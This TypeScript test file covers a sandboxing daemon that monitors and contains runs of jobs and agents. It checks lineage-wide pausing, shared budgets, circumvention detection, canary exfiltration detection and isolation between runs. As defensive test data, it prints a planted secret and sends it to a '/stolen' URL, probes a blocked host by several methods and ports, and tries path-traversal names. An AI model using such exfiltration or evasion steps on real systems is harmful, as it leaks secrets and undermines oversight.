/**
 * A swarm is one thing: all runs of a job, an agent or a secret stand still together, spend one budget, and share what
 * is found of any of them. On real runs.
 */
import assert from "node:assert/strict";
import { once } from "node:events";
import { readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { after, before, test } from "node:test";
import type { Entry, RunInfo } from "../src/api/index.ts";
import type { Client } from "../src/client/index.ts";
import { eventually, TestHome } from "./support/home.ts";
import { clientOf, execute, PLAIN_TASK } from "./support/rollout.ts";

const home = new TestHome();
const seen: string[] = [];
const server = createServer((request, response) => {
  seen.push(`${request.method} ${request.url}`);
  response.end("ok\n");
});
let client: Client;

before(async () => {
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  client = await clientOf(home);
});
after(async () => {
  server.closeAllConnections();
  server.close();
  await home.close();
});

interface Started {
  readonly job?: string;
  readonly agent?: string;
  readonly source?: string;
  readonly command?: readonly string[];
  readonly environment?: Readonly<Record<string, string>>;
}

async function start({ job, agent, source = PLAIN_TASK, command = [], environment = {} }: Started) {
  return client.call("run.start", {
    task: { source, fileName: `${home.workspace}/task.yaml` },
    command: [...command],
    cwd: home.workspace,
    path: process.env["PATH"] ?? "",
    environment: { ...environment },
    detach: true,
    lineage: { ...(job === undefined ? {} : { job }), ...(agent === undefined ? {} : { agent }) },
  });
}

function source(name: string, more = ""): string {
  return `task: ${name}
purpose: one of many
lifetime: 1h
${more}grants:
  - system: http
    name: open
    hosts: [open.test]
    ports: [80]
    tls: false
    dial: 127.0.0.1:${(server.address() as AddressInfo).port}
    allow: [{ methods: [GET, POST], paths: ["/**"] }]
`;
}

const stateOf = async ({ run }: RunInfo) => (await client.call("run.show", { run })).state;
const entriesOf = async ({ run }: RunInfo): Promise<readonly Entry[]> =>
  (await home.log()).filter((entry) => entry.run === run);
const kill = async (...runs: readonly RunInfo[]) =>
  Promise.all(runs.map(({ run }) => client.call("run.kill", { run }).catch(() => undefined)));
const get = ({ run }: RunInfo, path: string, more: readonly string[] = []) =>
  execute(client, run, [
    "curl",
    "-s",
    "-o",
    "/dev/null",
    "-w",
    "%{http_code}",
    ...more,
    `http://open.test${path}`,
  ]);

test("INV-242 pause --lineage freezes all runs of a job, lets none begin, over a daemon's death, until resume", async () => {
  const count = ["sh", "-c", "while :; do echo x; sleep 0.01; done"];
  const [a, b, other] = await Promise.all([
    start({ job: "swarm", command: count }),
    start({ job: "swarm" }),
    start({ job: "another" }),
  ]);
  const paused = await home.call(["pause", "--lineage", "job:swarm"]);
  assert.match(paused.stdout, /^job:swarm paused: 2 runs in \d+ ms\n$/, paused.stderr);
  assert.deepEqual(await Promise.all([a, b, other].map(stateOf)), ["paused", "paused", "running"]);
  await assert.rejects(start({ job: "swarm" }), { code: "lineage.paused" });
  await assert.rejects(client.call("run.resume", { run: a.run }), { code: "daemon.state" });
  await assert.rejects(execute(client, b.run, ["true"]), { code: "daemon.state" });
  await kill(await start({ job: "another" }), other);
  assert.match(
    (await home.call(["lineages"])).stdout,
    /job:swarm +2 +- +paused: job:swarm was paused by hand/,
  );
  // Another daemon of this home has not forgotten it.
  await home.call(["stop", "--force"]);
  client = await clientOf(home);
  await assert.rejects(start({ job: "swarm" }), { code: "lineage.paused" });
  await assert.rejects(client.call("lineage.resume", { lineage: "job:never" }), {
    code: "daemon.state",
  });
  assert.equal((await home.call(["resume", "--lineage", "job:swarm"])).code, 0);
  const again = await start({ job: "swarm" });
  assert.equal(await stateOf(again), "running");
  const states = (await home.log())
    .filter(({ type }) => type === "lineage")
    .map(({ data }) => data?.["state"]);
  assert.deepEqual(states, ["paused", "resumed"]);
  await kill(again);
});

test("a paused lineage resumes whole; what a person paused apart stays so", async () => {
  const [a, b] = await Promise.all([start({ job: "two" }), start({ job: "two" })]);
  await client.call("run.pause", { run: a.run });
  await client.call("lineage.pause", { lineage: "job:two" });
  await client.call("lineage.pause", { lineage: "agent:rollout" });
  await client.call("lineage.resume", { lineage: "job:two" });
  assert.deepEqual(await Promise.all([a, b].map(stateOf)), ["paused", "paused"]);
  await client.call("lineage.resume", { lineage: "agent:rollout" });
  assert.deepEqual(await Promise.all([a, b].map(stateOf)), ["paused", "running"]);
  await client.call("run.resume", { run: a.run });
  assert.equal(await stateOf(a), "running");
  await kill(a, b);
});

test("kill ends all, also those that are paused meanwhile, and none begins again by itself", async () => {
  const runs = await Promise.all([1, 2, 3].map(() => start({ job: "gone" })));
  const starting = start({ job: "gone" }).catch((error: unknown) => error);
  const [killed] = await Promise.all([
    client.call("lineage.kill", { lineage: "job:gone" }),
    client.call("lineage.pause", { lineage: "job:gone" }),
  ]);
  assert.ok(killed.runs >= 3);
  assert.deepEqual([...new Set(await Promise.all(runs.map(stateOf)))], ["ended"]);
  const last = await starting;
  if ("run" in (last as object)) {
    // It was so far along that it is one of those that were killed.
    await eventually("its end", 5000, async () => (await stateOf(last as RunInfo)) === "ended");
  }
  await assert.rejects(start({ job: "gone" }), { code: "lineage.paused" });
  await client.call("lineage.resume", { lineage: "job:gone" });
});

test("INV-245 a run has no say in what it is of: neither its environment nor a hostile name counts", async () => {
  const env = { COFFERDAM_JOB: "rich", COFFERDAM_LINEAGE: "job:rich" };
  const { stdout } = await home.call(
    ["run", "-d", "--json", "--job", "poor", "--", "sleep", "60"],
    { env },
  );
  const info = JSON.parse(stdout) as RunInfo;
  assert.deepEqual(info.lineage, ["job:poor", "agent:shell"]);
  await kill(info);
  for (const job of ["", "a b", "../x", "a\u202eb", "x".repeat(80), "*", "job:x", "a\nb"]) {
    await assert.rejects(start({ job }), { code: "daemon.request" }, JSON.stringify(job));
  }
  const { code } = await home.call(["pause", "--lineage", "job:a b"]);
  assert.equal(code, 125);
});

test("INV-243 one budget for all runs of a job, over restarts of runs and daemon", async () => {
  writeFileSync(
    join(home.state, "lineages.yaml"),
    `lineages:
  - lineage: job:budget*
    budget: { requests: 4, writes: 1 }
`,
  );
  const [a, b] = await Promise.all([
    start({ job: "budget-a", source: source("spender") }),
    start({ job: "budget-a", source: source("other-spender") }),
  ]);
  assert.equal((await get(a, "/1")).stdout, "200");
  assert.equal((await get(b, "/2", ["-d", "x"])).stdout, "200");
  assert.equal((await get(a, "/3", ["-d", "x"])).stdout, "403", "the only write was the other's");
  await kill(a);
  await home.call(["stop", "--force"]);
  client = await clientOf(home);
  const again = await start({ job: "budget-a", source: source("spender") });
  assert.equal((await get(again, "/4")).stdout, "200");
  const shown = await client.call("lineage.show", { lineage: "job:budget-a" });
  assert.deepEqual(shown.budget, ["requests 3 of 4", "writes 1 of 1"]);
  assert.equal((await get(again, "/5")).stdout, "200");
  assert.equal((await get(again, "/6")).stdout, "403");
  const denied = (await entriesOf(again)).find(({ rule }) => rule === "lineage.budget");
  assert.equal(denied?.verdict, "deny");
  assert.match(
    JSON.stringify(denied?.data?.["reason"]),
    /the budget of job:budget-a: its 4 requests are used up/,
  );
  const free = await start({ job: "free", source: source("spender") });
  assert.equal((await get(free, "/7")).stdout, "200", "another job has its own");
  assert.ok(!seen.some((line) => line.endsWith("/6") || line.endsWith("/3")), "none of them left");
  await kill(again, free);
  writeFileSync(join(home.state, "lineages.yaml"), "lineages:\n  - lineage: nobody\n");
  await assert.rejects(start({ job: "free" }), { code: "policy.lineages" });
  rmSync(join(home.state, "lineages.yaml"));
});

test("INV-246 the same secret under two names is one lineage, and another secret is none of it", async () => {
  for (const [name, secret] of [
    ["shop", "s3cret-of-the-shop"],
    ["same-shop", "s3cret-of-the-shop"],
    ["blog", "s3cret-of-the-blog"],
  ] as const) {
    const add = ["credential", "add", name, "--host", "open.test", "--scheme", "http", "--stdin"];
    assert.equal((await home.call(add, { input: `${secret}\n` })).code, 0);
  }
  const using = (name: string) =>
    source(`of-${name.toLowerCase().replace("$", "")}`).replace(
      "    ports:",
      `    credential: ${name}\n    ports:`,
    );
  const runs = await Promise.all([
    start({ source: using("shop") }),
    start({ source: using("same-shop") }),
    start({ source: using("blog") }),
  ]);
  const [one, two, three] = runs.map(({ lineage = [] }) =>
    lineage.find((key) => key.startsWith("credential:")),
  );
  assert.ok(one !== undefined && one === two && one !== three);
  assert.ok(!one.includes("s3cret"));
  await client.call("lineage.pause", { lineage: "credential:same-shop" });
  assert.deepEqual(await Promise.all(runs.map(stateOf)), ["paused", "paused", "running"]);
  await client.call("lineage.resume", { lineage: "credential:shop" });
  await kill(...runs);
});

test("INV-244 a target that is tried by one way in each of three runs is circumvention of all three", async () => {
  const runs = await Promise.all(
    [1, 2, 3].map(() =>
      start({ job: "ways", source: source("ways", "respond: { sticky: record }\n") }),
    ),
  );
  const ways = [
    ["-X", "GET"],
    ["-X", "POST"],
    ["-X", "PUT"],
  ] as const;
  const stickyOf = async (run: RunInfo) =>
    (await entriesOf(run)).filter(({ data }) => data?.["finding"] === "sticky");
  for (const [at, run] of runs.entries()) {
    await execute(client, run.run, [
      "curl",
      "-s",
      "--max-time",
      "3",
      ...(ways[at] ?? []),
      "http://secret.test/",
    ]);
    await execute(client, run.run, [
      "curl",
      "-s",
      "--max-time",
      "3",
      "-X",
      "PATCH",
      `http://open.test/${at}`,
    ]);
  }
  await execute(client, runs[0]?.run ?? "", [
    "curl",
    "-s",
    "--max-time",
    "3",
    "http://secret.test:81/",
  ]);
  await execute(client, runs[1]?.run ?? "", [
    "curl",
    "-s",
    "--max-time",
    "3",
    "http://secret.test:82/",
  ]);
  const [, , third] = runs;
  assert.ok(third !== undefined);
  await execute(client, third.run, ["curl", "-s", "--max-time", "3", "http://secret.test:83/"]);
  const found = await eventually("the finding", 5000, async () => (await stickyOf(third))[0]);
  assert.match(JSON.stringify(found.data?.["detail"]), /tried by several ways by runs of job:ways/);
  await kill(...runs);
});

test("INV-247 what was planted in one run is found in the traffic of another, in both, and pauses the lineage", async () => {
  const respond = "respond: { exfiltration: pause-lineage }\n";
  const [owner, user] = await Promise.all([
    start({ job: "canary", source: source("owner") }),
    start({ job: "canary", source: source("user", respond) }),
  ]);
  const { stdout: planted } = await execute(client, owner.run, [
    "sh",
    "-c",
    "printf %s $RELEASE_SIGNING_SECRET",
  ]);
  assert.equal(planted.length, 32);
  assert.equal((await get(user, "/benign?q=abcdefghijklmnopqrstuvwxyz234567")).stdout, "200");
  const used = get(user, `/stolen?q=${planted}`).catch(() => undefined);
  const findingOf = (run: RunInfo) =>
    eventually("the finding", 5000, async () =>
      (await entriesOf(run)).find(({ data }) => data?.["detector"] === "canary"),
    );
  assert.match(
    JSON.stringify((await findingOf(user)).data?.["detail"]),
    new RegExp(`planted in ${owner.run}`),
  );
  assert.match(
    JSON.stringify((await findingOf(owner)).data?.["detail"]),
    new RegExp(`used by ${user.run}`),
  );
  await eventually("both stand still", 5000, async () =>
    (await Promise.all([owner, user].map(stateOf))).every((state) => state === "paused"),
  );
  assert.ok(!seen.some((line) => line.includes(planted)), "it has not left");
  await assert.rejects(start({ job: "canary" }), { code: "lineage.paused" });
  await kill(owner, user);
  await used;
});

test("one run does not reach another: neither what that publishes, nor the host's loopback", async () => {
  const publishing = PLAIN_TASK.replace("grants: []", "publish: [18099:8099]\ngrants: []");
  const [a, b] = await Promise.all([
    start({ job: "direct", source: publishing }),
    start({ job: "direct" }),
  ]);
  const serving = execute(client, a.run, [
    "python3",
    "-m",
    "http.server",
    "8099",
    "--bind",
    "127.0.0.1",
  ]).catch(() => {});
  await eventually("the server answers the host", 10_000, async () => {
    const got = await fetch("http://127.0.0.1:18099/").catch(() => undefined);
    return got?.ok;
  });
  for (const place of ["127.0.0.1:18099", "127.0.0.1:8099", "10.0.2.2:18099", "localhost:18099"]) {
    const { end, stdout } = await execute(client, b.run, [
      "curl",
      "-s",
      "--max-time",
      "2",
      `http://${place}/`,
    ]);
    assert.notEqual(end.code, 0, place);
    assert.equal(stdout, "");
  }
  await kill(a, b);
  await serving;
});

test("nothing of a secret stands in what is kept", () => {
  const kept = ["lineages.db", "lineages.db-wal"].map((name) =>
    readFileSync(join(home.state, name)),
  );
  assert.ok(!Buffer.concat(kept).includes("s3cret"));
});
